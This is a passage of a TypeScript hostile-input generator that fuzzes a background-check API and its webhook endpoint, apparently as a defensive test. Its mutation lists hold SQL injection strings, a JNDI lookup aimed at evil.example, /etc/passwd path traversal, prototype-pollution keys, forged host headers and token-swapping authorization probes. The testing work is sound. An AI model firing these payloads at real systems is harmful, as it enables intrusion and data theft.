import { randomUUID } from 'node:crypto'
import { CHECKR_PLACEHOLDER_SIGNATURE, signCheckrPayload } from '@vetkit/core/checkr'
import type { Operation, Parameter } from './openapi'
import { createRng, type Rng } from './rng'
import type { WireRequest } from './send'
import {
  INVALID_UTF8,
  UNPAIRED_SURROGATES,
  deepJson,
  fullValue,
  insideFirstString,
  leavesOf,
  longText,
  primaryType,
  setAt,
  wrongTypeValue,
  type Leaf,
} from './values'

/** The engine's real state the storm aims at: real ids, tokens, cursors, delivered webhooks. */
export interface World {
  mount: string
  adminToken: string
  /** Subjects with a consent and a check, each with its own token. */
  subjects: readonly { id: string; token: string }[]
  /** A subject token that owns none of the subjects above. */
  strangerToken: string
  checkIds: readonly string[]
  /** Rows of the webhook log (`{webhookId}`). */
  webhookIds: readonly string[]
  /** A real `nextCursor` per list route (by path template), to forge others from. */
  cursors: Readonly<Record<string, string>>
  /** Webhooks already delivered (and answered 200) before the storm: replays must be duplicates. */
  webhooks: readonly { body: Buffer; signature: string }[]
  signingKey: string
}

/**
 * What a request must get: `refused` a 4xx (it carries at least one fault that alone is enough);
 * `duplicate` 200 `{ ok: true, duplicate: true }` (a replayed webhook); `any` no 5xx (a read-only
 * probe whose hostile value is acceptable input, such as a forged but well-formed cursor).
 */
export type Expectation = 'refused' | 'duplicate' | 'any'

export interface Planned {
  index: number
  operation: string
  /** The faults injected, by kind (`body:deep`, `webhook:signature-forged`, ...). */
  mutations: string[]
  expect: Expectation
  /** When one status is the only right answer (a well-formed id of no check: 404). */
  status?: number
  wire: WireRequest
}

type Category = 'method' | 'id' | 'path' | 'auth' | 'query' | 'body' | 'header' | 'xff' | 'noise'

interface Draft {
  method: string
  /** Encoded path segments under the mount point. */
  segments: string[]
  paramAt: Record<string, number>
  query: string[]
  headers: [string, string][]
  /** The body as a value (serialized at the end) or, once a mutation took it over, as bytes. */
  value: unknown
  bytes: Buffer | null
  chunked: boolean
  transformPath: ((path: string) => string) | null
}

interface Mutation {
  kind: string
  category: Category
  /** Alone enough for a 4xx, whatever else the request carries. */
  refuses: boolean
  applies(op: Operation, world: World): boolean
  apply(rng: Rng, op: Operation, draft: Draft, world: World): void
}

const XFF_VALUES: readonly string[] = [
  ...Array.from({ length: 24 }, (_, i) => `198.51.100.${i + 1}`),
  '2001:db8::1',
  '2001:db8:0:100::7',
  '203.0.113.7, 198.51.100.2',
  '::ffff:198.51.100.9',
]
/** Forwarded-for values a trusted proxy would never write; the last one is what vetkit reads. */
const HOSTILE_XFF: readonly string[] = [
  'unknown',
  'garbage',
  '999.999.999.999',
  '1.2.3.4:80',
  '[2001:db8::1]:443',
  ',,,',
  `198.51.100.1, ${'10.0.0.1, '.repeat(300)}10.0.0.2`,
  'x'.repeat(40),
  'x'.repeat(300),
  '\u00ff\u00fe',
  '%00',
]

const setHeader = (draft: Draft, name: string, value: string | null) => {
  draft.headers = draft.headers.filter(([n]) => n.toLowerCase() !== name.toLowerCase())
  if (value !== null) draft.headers.push([name, value])
}
const hasSubjectParam = (op: Operation) => op.pathParams.some((p) => p.name === 'subjectId')
const hasCheckParam = (op: Operation) => op.pathParams.some((p) => p.name === 'checkId')
const isApi = (op: Operation) => op.access === 'admin' || op.access === 'subject'
const isJsonPost = (op: Operation) => op.method === 'POST' && op.body !== null
const setParam = (draft: Draft, name: string, encoded: string) => {
  const at = draft.paramAt[name]
  if (at !== undefined) draft.segments[at] = encoded
}
const stringLeaves = (op: Operation): Leaf[] => (op.body ? leavesOf(op.body).filter((l) => primaryType(l.schema) === 'string' && !l.schema.enum) : [])
const typedLeaves = (op: Operation): Leaf[] => (op.body ? leavesOf(op.body).filter((l) => primaryType(l.schema) !== undefined) : [])
const jsonOf = (draft: Draft) => JSON.stringify(draft.value)
const withBytes = (draft: Draft, bytes: Buffer) => {
  draft.bytes = bytes
}
const pickParam = (rng: Rng, op: Operation): Parameter => rng.pick(op.pathParams)
const validQueryValue = (rng: Rng, param: Parameter, op: Operation, world: World): string => {
  if (param.name === 'cursor') return world.cursors[op.template] ?? 'AAAA'
  if (param.schema.enum && param.schema.enum.length > 0) return String(rng.pick(param.schema.enum))
  if (param.name === 'status') return rng.pick(['passed', 'invited,pending', 'consider'])
  if (primaryType(param.schema) === 'integer') return String(rng.between(param.schema.minimum ?? 0, Math.min(param.schema.maximum ?? 10, 10)))
  return rng.pick(['ada', 'report.completed', 'x'])
}

/** Every fault the storm injects into a subject or admin route (or the OpenAPI document). */
const MUTATIONS: readonly Mutation[] = [
  // --- the method
  {
    kind: 'method:unknown',
    category: 'method',
    refuses: true,
    applies: () => true,
    apply: (rng, _op, draft) => {
      draft.method = rng.pick(['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', 'PROPPATCH', 'MKCOL', 'LOCK', 'PURGE', 'SEARCH', 'REPORT', 'BREW'])
    },
  },
  {
    kind: 'method:wrong',
    category: 'method',
    refuses: true,
    applies: () => true,
    apply: (rng, op, draft) => {
      draft.method = op.method === 'GET' ? 'POST' : rng.pick(['GET', 'HEAD'])
    },
  },
  { kind: 'method:head', category: 'method', refuses: false, applies: (op) => op.method === 'GET', apply: (_rng, _op, draft) => void (draft.method = 'HEAD') },

  // --- path ids
  {
    kind: 'id:too-long',
    category: 'id',
    refuses: true,
    applies: (op) => op.pathParams.length > 0,
    apply: (rng, op, draft) => {
      const param = pickParam(rng, op)
      const max = param.schema.maxLength ?? 191
      const length = rng.pick([max + 1, max + 2, 2 * max + 7, 2001, 4096, 9000])
      const encoded = length <= 1500 && rng.chance(0.3) ? '%C3%A9'.repeat(length) : 'a'.repeat(length)
      setParam(draft, param.name, encoded)
    },
  },
  {
    kind: 'id:nul',
    category: 'id',
    refuses: true,
    applies: (op) => op.pathParams.length > 0,
    apply: (rng, op, draft) => setParam(draft, pickParam(rng, op).name, rng.pick(['%00', 'ada%00', '%00ada', 'a%00%00b'])),
  },
  {
    kind: 'id:bad-encoding',
    category: 'id',
    refuses: true,
    applies: (op) => op.pathParams.length > 0,
    apply: (rng, op, draft) =>
      setParam(draft, pickParam(rng, op).name, rng.pick(['%ff', '%E2%82', '%', '%zz', 'ada%', '%ED%A0%80', '%C0%AF', '%F4%90%80%80', '%%32%65'])),
  },
  {
    kind: 'id:blank',
    category: 'id',
    refuses: true,
    applies: (op) => op.pathParams.length > 0,
    apply: (rng, op, draft) => setParam(draft, pickParam(rng, op).name, rng.pick(['%20', '%20%20', '%09', '%0A', '%0D%0A'])),
  },
  {
    // Well-formed ids of no check: the engine itself must answer 404 (and write nothing).
    kind: 'id:unknown-check',
    category: 'id',
    refuses: true,
    applies: hasCheckParam,
    apply: (rng, _op, draft, world) => {
      const real = rng.pick(world.checkIds)
      setParam(
        draft,
        'checkId',
        rng.pick([
          randomUUID(),
          real.toUpperCase(),
          `${real};x`,
          real.slice(0, -1),
          "1'%20OR%20'1'%3D'1",
          "x'%3B%20DROP%20TABLE%20hostile_checks%3B%20--",
          '%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D',
          'null',
          'undefined',
          '__proto__',
          'constructor',
          'prototype',
          '0',
          '-1',
          '1e308',
          'NaN',
          '%F0%9F%94%A5',
          'c%C3%A9',
          '..%2F..%2Fetc%2Fpasswd',
          '*',
          '%25',
          '%E2%80%AE',
        ]),
      )
    },
  },
  {
    // Odd but storable subject ids: a subject that does not exist yet reads as not_started.
    kind: 'id:odd-subject',
    category: 'id',
    refuses: false,
    applies: hasSubjectParam,
    apply: (rng, _op, draft) =>
      setParam(draft, 'subjectId', rng.pick(['..%2F..%2Fadmin', '%F0%9F%94%A5', '%E2%80%AE', 'a%2Fb', '__proto__', 'constructor', "ada'--", 'ADA', 'a%3Bb', '%E2%80%8B'])),
  },

  // --- the path's shape
  {
    kind: 'path:dot-segment',
    category: 'path',
    refuses: true,
    applies: () => true,
    apply: (rng, _op, draft) => {
      const dot = rng.pick(['.', '..', '%2e', '%2E%2e', '.%2e', '%2e.', '%2E'])
      draft.transformPath = (path) => {
        const parts = path.split('/')
        const at = rng.between(1, parts.length - 1)
        return [...parts.slice(0, at), dot, ...parts.slice(at)].join('/')
      }
    },
  },
  {
    kind: 'path:backslash',
    category: 'path',
    refuses: true,
    applies: () => true,
    apply: (rng, _op, draft) => {
      const slash = rng.pick(['\\', '%5c', '%5C', '\\..\\', '%5c..%5c'])
      draft.transformPath = (path) => {
        const slashes = [...path.matchAll(/\//g)].map((m) => m.index).filter((i) => i > 0)
        const at = slashes.length > 0 ? rng.pick(slashes) : path.length
        return `${path.slice(0, at)}${slash}${path.slice(at + 1)}`
      }
    },
  },
  {
    kind: 'path:trailing',
    category: 'path',
    refuses: true,
    applies: () => true,
    apply: (rng, _op, draft) => {
      const tail = rng.pick(['/', '//', '/extra', '%2F', '%2Fextra', ';jsessionid=1', '.json', '%00', '/%00', '~', '/..;/admin'])
      draft.transformPath = (path) => `${path}${tail}`
    },
  },
  {
    kind: 'path:case',
    category: 'path',
    refuses: true,
    applies: () => true,
    apply: (rng, _op, draft) => {
      // Only segments that are no id: an id in another case is another, valid id.
      const fixed = draft.segments.map((_, i) => i).filter((i) => !Object.values(draft.paramAt).includes(i))
      if (fixed.length === 0) return
      const at = rng.pick(fixed)
      draft.segments[at] = (draft.segments[at] ?? '').toUpperCase()
    },
  },
  {
    kind: 'path:double-slash',
    category: 'path',
    refuses: true,
    applies: () => true,
    apply: (rng, _op, draft) => {
      const at = rng.int(draft.segments.length)
      draft.segments[at] = `/${draft.segments[at] ?? ''}`
    },
  },

  // --- the caller
  { kind: 'auth:none', category: 'auth', refuses: true, applies: isApi, apply: (_rng, _op, draft) => setHeader(draft, 'Authorization', null) },
  {
    kind: 'auth:wrong',
    category: 'auth',
    refuses: true,
    applies: isApi,
    apply: (rng, _op, draft, world) =>
      setHeader(
        draft,
        'Authorization',
        rng.pick([
          'Bearer nope',
          `bearer ${world.adminToken}`,
          `Bearer  ${world.adminToken}`,
          `Bearer ${world.adminToken.toUpperCase()}`,
          `Bearer ${world.adminToken.slice(0, -1)}`,
          `Basic ${Buffer.from('admin:admin').toString('base64')}`,
          'Bearer ',
          'Bearer __proto__',
          'Bearer constructor',
          'Bearer toString',
          'Bearer \u00ff\u00fe',
          `Bearer ${'x'.repeat(6000)}`,
          'Bearer null',
        ]),
      ),
  },
  {
    kind: 'auth:other-caller',
    category: 'auth',
    refuses: true,
    applies: isApi,
    apply: (rng, op, draft, world) => {
      if (op.access === 'admin') {
        setHeader(draft, 'Authorization', `Bearer ${rng.pick([...world.subjects.map((s) => s.token), world.strangerToken])}`)
        return
      }
      // A subject route: any subject's token but the one in the path.
      const at = draft.paramAt.subjectId
      const owner = at === undefined ? undefined : draft.segments[at]
      const others = [...world.subjects.filter((s) => s.id !== owner).map((s) => s.token), world.strangerToken]
      setHeader(draft, 'Authorization', `Bearer ${rng.pick(others)}`)
    },
  },

  // --- the query
  {
    kind: 'query:unknown',
    category: 'query',
    refuses: true,
    applies: isApi,
    apply: (rng, _op, draft) =>
      draft.query.push(rng.pick(['foo=bar', '__proto__=1', '__proto__[admin]=1', 'constructor=x', 'hasOwnProperty=1', '=x', 'limit%00=1', 'LIMIT=1', 'status[]=passed', 'a.b=1'])),
  },
  {
    kind: 'query:repeated',
    category: 'query',
    refuses: true,
    applies: isApi,
    apply: (rng, op, draft, world) => {
      if (op.query.length === 0) {
        draft.query.push('x=1', 'x=1')
        return
      }
      const param = rng.pick(op.query)
      const value = encodeURIComponent(validQueryValue(rng, param, op, world))
      draft.query.push(`${param.name}=${value}`, `${param.name}=${rng.chance(0.5) ? value : '2'}`)
    },
  },
  {
    kind: 'query:bad-value',
    category: 'query',
    refuses: true,
    applies: (op) => isApi(op) && op.query.length > 0,
    apply: (rng, op, draft) => {
      const param = rng.pick(op.query)
      const { schema } = param
      const bad: string[] = ['%00', 'a%00b']
      if (schema.enum) bad.push('bogus', String(schema.enum[0]).toUpperCase(), `%20${String(schema.enum[0])}`, `${String(schema.enum[0])},${String(schema.enum[0])}`)
      if (primaryType(schema) === 'integer') {
        bad.push('abc', '1.5', '1e999', '-1e999', String((schema.maximum ?? 1000) + 1), '99999999999999999999', '--1', '1_000')
        if ((schema.minimum ?? 0) > 0) bad.push('', '0', '-1')
        else bad.push('-1')
      }
      if (schema.maxLength !== undefined) bad.push('x'.repeat(schema.maxLength + 1), '%C3%A9'.repeat(schema.maxLength + 1))
      if (param.name === 'status') bad.push('bogus', 'passed,bogus', Array.from({ length: 11 }, () => 'passed').join(','))
      if (param.name === 'cursor') bad.push('AAAA', 'not-base64!', 'eyJ9', Buffer.from('{"s":1}').toString('base64url'), Buffer.from('[]').toString('base64url'))
      draft.query.push(`${param.name}=${rng.pick(bad)}`)
    },
  },
  {
    // A well-formed cursor with forged contents: it may page (200) or be refused (400), never a 5xx.
    kind: 'query:forged-cursor',
    category: 'query',
    refuses: false,
    applies: (op, world) => op.query.some((p) => p.name === 'cursor') && world.cursors[op.template] !== undefined,
    apply: (rng, op, draft, world) => {
      const real = JSON.parse(Buffer.from(world.cursors[op.template] ?? '', 'base64url').toString('utf8')) as Record<string, unknown>
      const forged = rng.pick<Record<string, unknown>>([
        { ...real, i: '\u0000' },
        { ...real, i: `a\u0000b` },
        { ...real, i: '\ud800' },
        { ...real, i: 'x'.repeat(191) },
        { ...real, i: "' OR 1=1 --" },
        { ...real, i: '🔥' },
        { ...real, i: '-1' },
        { ...real, v: 1e308 },
        { ...real, v: -1e308 },
        { ...real, v: 1.5 },
        { ...real, v: 2 ** 63 },
        { ...real, v: -(2 ** 53) - 2 },
        { ...real, v: null },
        { ...real, v: '1' },
        { ...real, s: 'other' },
        { ...real, s: '\u0000' },
        { ...real, extra: 1 },
        { s: real.s, v: real.v },
        {},
      ])
      draft.query.push(`cursor=${Buffer.from(JSON.stringify(forged)).toString('base64url')}`)
    },
  },
  {
    kind: 'query:valid-filter',
    category: 'query',
    refuses: false,
    applies: (op) => isApi(op) && op.query.length > 0,
    apply: (rng, op, draft, world) => {
      const param = rng.pick(op.query)
      draft.query.push(`${param.name}=${encodeURIComponent(validQueryValue(rng, param, op, world))}`)
    },
  },

  // --- the JSON body
  {
    kind: 'body:wrong-type',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && typedLeaves(op).length > 0,
    apply: (rng, op, draft) => {
      const leaf = rng.pick(typedLeaves(op))
      draft.value = setAt(draft.value, leaf.path, wrongTypeValue(rng, leaf.schema))
    },
  },
  {
    kind: 'body:bad-enum',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && leavesOf(op.body ?? {}).some((l) => l.schema.enum),
    apply: (rng, op, draft) => {
      const leaf = rng.pick(leavesOf(op.body ?? {}).filter((l) => l.schema.enum))
      const first = String(leaf.schema.enum?.[0] ?? '')
      draft.value = setAt(draft.value, leaf.path, rng.pick([first.toUpperCase(), ` ${first}`, `${first}\u0000`, '', 'bogus', `${first}s`]))
    },
  },
  {
    kind: 'body:wrong-root',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, _op, draft) => withBytes(draft, Buffer.from(rng.pick(['[]', '[{}]', '"x"', '123', 'null', 'true', 'false', '0', '""', '1e999']))),
  },
  {
    kind: 'body:unknown-field',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, _op, draft) => {
      const field = rng.pick(['"extra":1', '"__proto__":{"admin":true}', '"constructor":{"prototype":{"admin":true}}', '"":1', '"actor":{"kind":"admin","id":"x"}', '"status":"passed"'])
      const json = jsonOf(draft)
      withBytes(draft, Buffer.from(json === '{}' ? `{${field}}` : `{${field},${json.slice(1)}`))
    },
  },
  {
    kind: 'body:missing-required',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && (op.body?.required?.length ?? 0) > 0,
    apply: (rng, op, draft) => {
      const key = rng.pick(op.body?.required ?? [])
      const { [key]: _dropped, ...rest } = draft.value as Record<string, unknown>
      draft.value = rest
    },
  },
  {
    kind: 'body:huge-string',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && stringLeaves(op).some((l) => l.schema.maxLength !== undefined),
    apply: (rng, op, draft) => {
      const leaf = rng.pick(stringLeaves(op).filter((l) => l.schema.maxLength !== undefined))
      const max = leaf.schema.maxLength ?? 0
      draft.value = setAt(draft.value, leaf.path, longText(rng, max + rng.pick([1, 2, 17, max])))
    },
  },
  {
    kind: 'body:huge-array',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && leavesOf(op.body ?? {}).some((l) => primaryType(l.schema) === 'array' && l.schema.maxItems !== undefined),
    apply: (rng, op, draft) => {
      const leaf = rng.pick(leavesOf(op.body ?? {}).filter((l) => primaryType(l.schema) === 'array' && l.schema.maxItems !== undefined))
      const count = (leaf.schema.maxItems ?? 0) + rng.pick([1, 2, 1000])
      draft.value = setAt(draft.value, leaf.path, Array.from({ length: count }, () => fullValue(leaf.schema.items ?? {})))
    },
  },
  {
    kind: 'body:empty-array',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && leavesOf(op.body ?? {}).some((l) => primaryType(l.schema) === 'array' && (l.schema.minItems ?? 0) > 0),
    apply: (rng, op, draft) => {
      const leaf = rng.pick(leavesOf(op.body ?? {}).filter((l) => primaryType(l.schema) === 'array' && (l.schema.minItems ?? 0) > 0))
      draft.value = setAt(draft.value, leaf.path, [])
    },
  },
  {
    kind: 'body:deep',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, op, draft) => {
      const kind = rng.pick(['array', 'object'] as const)
      const depth = rng.pick([10_000, 10_000, 5_000, 100_000])
      const deep = deepJson(depth, kind)
      const leaves = typedLeaves(op)
      if (leaves.length === 0 || rng.chance(0.4)) {
        withBytes(draft, Buffer.from(deep))
        return
      }
      // As a field's value: `{"reason":[[[...]]]}`.
      const marker = '"__deep__"'
      const json = JSON.stringify(setAt(draft.value, rng.pick(leaves).path, '__deep__'))
      withBytes(draft, Buffer.from(json.replace(marker, deep)))
    },
  },
  {
    kind: 'body:invalid-utf8',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, _op, draft) => {
      const bytes = rng.pick(INVALID_UTF8)
      const json = jsonOf(draft)
      withBytes(draft, rng.chance(0.8) ? insideFirstString(json, bytes) : Buffer.concat([Buffer.from(json), bytes]))
    },
  },
  {
    kind: 'body:utf16',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, _op, draft) => {
      const json = jsonOf(draft)
      withBytes(draft, rng.chance(0.5) ? Buffer.from(json, 'utf16le') : Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(json, 'utf16le')]))
    },
  },
  {
    kind: 'body:nul-escaped',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && stringLeaves(op).length > 0,
    apply: (rng, op, draft) => {
      const leaf = rng.pick(stringLeaves(op))
      draft.value = setAt(draft.value, leaf.path, rng.pick(['\u0000', 'a\u0000b', 'ok\u0000', '\u0000'.repeat(50)]))
    },
  },
  {
    kind: 'body:nul-raw',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, _op, draft) => {
      const json = jsonOf(draft)
      withBytes(draft, rng.chance(0.6) ? insideFirstString(json, Buffer.from([0])) : Buffer.concat([Buffer.from(json.slice(0, 1)), Buffer.from([0]), Buffer.from(json.slice(1))]))
    },
  },
  {
    kind: 'body:unpaired-surrogate',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && stringLeaves(op).length > 0,
    apply: (rng, op, draft) => {
      const leaf = rng.pick(stringLeaves(op))
      draft.value = setAt(draft.value, leaf.path, rng.pick(UNPAIRED_SURROGATES))
    },
  },
  {
    // The last of two equal keys wins in JSON.parse: here the last one is the wrong one.
    kind: 'body:duplicate-keys',
    category: 'body',
    refuses: true,
    applies: (op) => isJsonPost(op) && Object.keys(op.body?.properties ?? {}).length > 0,
    apply: (rng, op, draft) => {
      const key = rng.pick(Object.keys(op.body?.properties ?? {}))
      const property = op.body?.properties?.[key] ?? {}
      const valid = (draft.value as Record<string, unknown>)[key]
      const json = JSON.stringify({ ...(draft.value as Record<string, unknown>), [key]: wrongTypeValue(rng, property) })
      withBytes(draft, Buffer.from(`{${JSON.stringify(key)}:${JSON.stringify(valid)},${json.slice(1)}`))
    },
  },
  {
    // The first of two equal keys is wrong, the last valid: harmless on its own, so a companion.
    kind: 'body:duplicate-keys-benign',
    category: 'body',
    refuses: false,
    applies: (op) => isJsonPost(op) && Object.keys(op.body?.properties ?? {}).length > 0,
    apply: (rng, op, draft) => {
      const key = rng.pick(Object.keys(op.body?.properties ?? {}))
      const wrong = wrongTypeValue(rng, op.body?.properties?.[key] ?? {})
      withBytes(draft, Buffer.from(`{${JSON.stringify(key)}:${JSON.stringify(wrong)},${jsonOf(draft).slice(1)}`))
    },
  },
  {
    kind: 'body:too-large',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, op, draft) => {
      const size = rng.pick([64 * 1024 + 1, 64 * 1024 + 100, 100_000, 200_000, 300_000, 1024 * 1024])
      const leaves = stringLeaves(op)
      const base = leaves.length > 0 ? JSON.stringify(setAt(draft.value, rng.pick(leaves).path, 'x'.repeat(size))) : `${jsonOf(draft)}${' '.repeat(size)}`
      withBytes(draft, Buffer.from(base))
      draft.chunked = rng.chance(0.3)
    },
  },
  {
    kind: 'body:truncated',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, _op, draft) => {
      const json = Buffer.from(jsonOf(draft))
      withBytes(draft, json.subarray(0, rng.between(1, json.byteLength - 1)))
    },
  },
  {
    kind: 'body:not-json',
    category: 'body',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, _op, draft) =>
      withBytes(
        draft,
        Buffer.from(
          rng.pick(['reason=x', '<reason>x</reason>', "{'reason':'x'}", '{reason:"x"}', 'NaN', 'undefined', '{"a":1,}', '[1,]', '{"a":01}', '{"a":"\\x41"}', '{"a":"\\u00"}', '\u00a0{}', '{}{}', '{"a":1}/*x*/', '\u000b{}']),
        ),
      ),
  },

  // --- headers
  {
    kind: 'header:content-type',
    category: 'header',
    refuses: true,
    applies: isJsonPost,
    apply: (rng, _op, draft) =>
      setHeader(
        draft,
        'Content-Type',
        rng.pick([
          null,
          'text/plain',
          'text/plain;charset=utf-8',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/xml',
          'application/json5',
          'text/json',
          'application/jsonp',
          'application/json, text/plain',
          'application/javascript',
          'json',
          '*/*',
          'application/ json',
        ]),
      ),
  },
  {
    kind: 'xff:hostile',
    category: 'xff',
    refuses: false,
    applies: () => true,
    apply: (rng, _op, draft) => setHeader(draft, 'X-Forwarded-For', rng.pick(HOSTILE_XFF)),
  },
  {
    kind: 'noise:headers',
    category: 'noise',
    refuses: false,
    applies: () => true,
    apply: (rng, _op, draft) => {
      const [name, value] = rng.pick<[string, string]>([
        ['X-HTTP-Method-Override', 'DELETE'],
        ['X-Original-URL', '/vetkit/admin/checks'],
        ['X-Rewrite-URL', '/vetkit/admin/webhooks'],
        ['X-Forwarded-Host', 'evil.example'],
        ['X-Forwarded-Proto', 'gopher'],
        ['Host', 'evil.example/admin'],
        ['User-Agent', 'u'.repeat(8000)],
        ['Cookie', `session=${'c'.repeat(2000)}; __proto__=1`],
        ['Accept', 'application/xml'],
        ['Accept-Encoding', 'gzip, br, zstd'],
        ['Content-Encoding', 'gzip'],
        ['Origin', 'https://evil.example'],
        ['X-Vetkit-Actor', 'admin'],
      ])
      if (name === 'Host') setHeader(draft, 'Host', value)
      else draft.headers.push([name, value])
    },
  },
]

/**
 * The request for `(seed, index)`: the same pair always gives the same request. The first
 * requests take each kind of fault in turn (so every kind is injected, however rare), the rest
 * are drawn at random.
 */
export function planRequest(seed: number, index: number, operations: readonly Operation[], world: World): Planned {
  const rng = createRng((seed + Math.imul(index + 1, 0x9e3779b1)) >>> 0)
  const webhook = operations.find((op) => op.access === 'webhook')
  const forced = FAULT_KINDS[index]
  const forcedWebhook = WEBHOOK_FAULTS.find((f) => f.kind === forced)
  if (forcedWebhook && webhook) return planWebhook(rng, index, webhook, world, forcedWebhook)
  const forcedApi = MUTATIONS.find((m) => m.kind === forced)
  const targets = forcedApi ? operations.filter((op) => op.access !== 'webhook' && forcedApi.applies(op, world)) : []
  if (forcedApi && targets.length > 0) return planApi(rng, index, rng.pick(targets), world, forcedApi)
  // The webhook takes the most kinds of fault (signatures, replays): it gets a larger share.
  const weighted = operations.flatMap((op) => (op.access === 'webhook' ? [op, op, op, op] : [op]))
  const op = rng.pick(weighted)
  return op.access === 'webhook' ? planWebhook(rng, index, op, world) : planApi(rng, index, op, world)
}

function baseDraft(rng: Rng, op: Operation, world: World): Draft {
  const subject = rng.pick(world.subjects)
  const paramAt: Record<string, number> = {}
  const segments = op.template
    .slice(world.mount.length + 1)
    .split('/')
    .map((segment, i) => {
      const name = /^\{(\w+)\}$/.exec(segment)?.[1]
      if (name === undefined) return segment
      paramAt[name] = i
      if (name === 'subjectId') return subject.id
      if (name === 'checkId') return rng.pick(world.checkIds)
      if (name === 'webhookId') return rng.pick(world.webhookIds)
      throw new Error(`the generator knows no real value for {${name}} (${op.template})`)
    })
  const headers: [string, string][] = [['User-Agent', 'hostile-input/1.0']]
  if (op.access === 'admin') headers.push(['Authorization', `Bearer ${world.adminToken}`])
  if (op.access === 'subject') headers.push(['Authorization', `Bearer ${rng.chance(0.5) ? subject.token : world.adminToken}`])
  if (op.method === 'POST') headers.push(['Content-Type', rng.pick(['application/json', 'application/json; charset=utf-8', 'application/problem+json', 'APPLICATION/JSON'])])
  if (rng.chance(0.7)) headers.push(['X-Forwarded-For', rng.pick(XFF_VALUES)])
  return { method: op.method, segments, paramAt, query: [], headers, value: op.body ? fullValue(op.body) : undefined, bytes: null, chunked: false, transformPath: null }
}

function finish(draft: Draft, index: number, op: Operation, world: World, mutations: string[], expect: Expectation): Planned {
  let path = `${world.mount}/${draft.segments.join('/')}`
  if (draft.transformPath) path = draft.transformPath(path)
  if (draft.query.length > 0) path = `${path}?${draft.query.join('&')}`
  let body = draft.bytes ?? (draft.value === undefined ? undefined : Buffer.from(JSON.stringify(draft.value)))
  if (body !== undefined && draft.method === 'GET' && op.method === 'GET') body = undefined
  if (draft.chunked) setHeader(draft, 'Transfer-Encoding', 'chunked')
  return { index, operation: op.id, mutations, expect, wire: { method: draft.method, path, headers: draft.headers, ...(body ? { body } : {}) } }
}

function planApi(rng: Rng, index: number, op: Operation, world: World, forced?: Mutation): Planned {
  const draft = baseDraft(rng, op, world)
  const applicable = MUTATIONS.filter((m) => m.applies(op, world))
  const refusing = applicable.filter((m) => m.refuses)
  const companions = applicable.filter((m) => !m.refuses)
  const chosen: Mutation[] = []
  const used = new Set<Category>()
  const take = (m: Mutation) => {
    chosen.push(m)
    used.add(m.category)
  }
  if (forced) take(forced)
  // A read-only probe now and then: hostile but acceptable values on a GET, no refusal guaranteed.
  const probe = op.method === 'GET' && companions.length > 0 && (forced ? !forced.refuses : rng.chance(0.1))
  if (!probe) {
    const wanted = rng.chance(0.6) ? 1 : rng.chance(0.75) ? 2 : 3
    // A forced companion (say, a hostile X-Forwarded-For) does not count: a write must still be refused.
    for (let tries = 0; chosen.filter((m) => m.refuses).length < wanted && tries < 20; tries++) {
      const m = rng.pick(refusing)
      if (!used.has(m.category)) take(m)
    }
  }
  for (const m of companions) if (!used.has(m.category) && rng.chance(probe ? 0.5 : 0.12)) take(m)
  if (probe && chosen.length === 0) take(rng.pick(companions))
  // Ids first (the path is built from them), the path's shape last.
  const order: Category[] = ['id', 'query', 'body', 'header', 'auth', 'xff', 'noise', 'method', 'path']
  chosen.sort((a, b) => order.indexOf(a.category) - order.indexOf(b.category))
  for (const m of chosen) m.apply(rng, op, draft, world)
  const expect: Expectation = chosen.some((m) => m.refuses) ? 'refused' : 'any'
  const planned = finish(draft, index, op, world, chosen.map((m) => m.kind), expect)
  const refusals = chosen.filter((m) => m.refuses).map((m) => m.kind)
  return refusals.length === 1 && refusals[0] === 'id:unknown-check' ? { ...planned, status: 404 } : planned
}

type WebhookFault = { kind: string; expect: Expectation; build: (rng: Rng, delivered: { body: Buffer; signature: string }, world: World) => { body: Buffer; signatures: string[] } }

const resign = (body: Buffer | string, world: World) => {
  const bytes = typeof body === 'string' ? Buffer.from(body) : body
  return { body: bytes, signatures: [signCheckrPayload(bytes, world.signingKey)] }
}
const reshape = (delivered: { body: Buffer }, change: (event: Record<string, unknown>) => Record<string, unknown>) =>
  JSON.stringify(change(JSON.parse(delivered.body.toString('utf8')) as Record<string, unknown>))
const hex = (rng: Rng, length: number) => Array.from({ length }, () => '0123456789abcdef'[rng.int(16)]).join('')

/** Every webhook fault: signatures, replays, and validly signed bodies vetkit must still refuse. */
const WEBHOOK_FAULTS: readonly WebhookFault[] = [
  { kind: 'webhook:replay', expect: 'duplicate', build: (_rng, d) => ({ body: d.body, signatures: [d.signature] }) },
  { kind: 'webhook:replay-uppercase-signature', expect: 'duplicate', build: (_rng, d) => ({ body: d.body, signatures: [d.signature.toUpperCase()] }) },
  { kind: 'webhook:replay-padded-signature', expect: 'duplicate', build: (_rng, d) => ({ body: d.body, signatures: [` ${d.signature}\t`] }) },
  {
    // A fresh id first, the delivered id last: JSON.parse keeps the last, so it is a replay.
    kind: 'webhook:replay-duplicate-id',
    expect: 'duplicate',
    build: (rng, d, world) => resign(`{"id":"evt_forged_${hex(rng, 12)}",${d.body.toString('utf8').slice(1)}`, world),
  },
  { kind: 'webhook:signature-missing', expect: 'refused', build: (_rng, d) => ({ body: d.body, signatures: [] }) },
  { kind: 'webhook:signature-empty', expect: 'refused', build: (_rng, d) => ({ body: d.body, signatures: [''] }) },
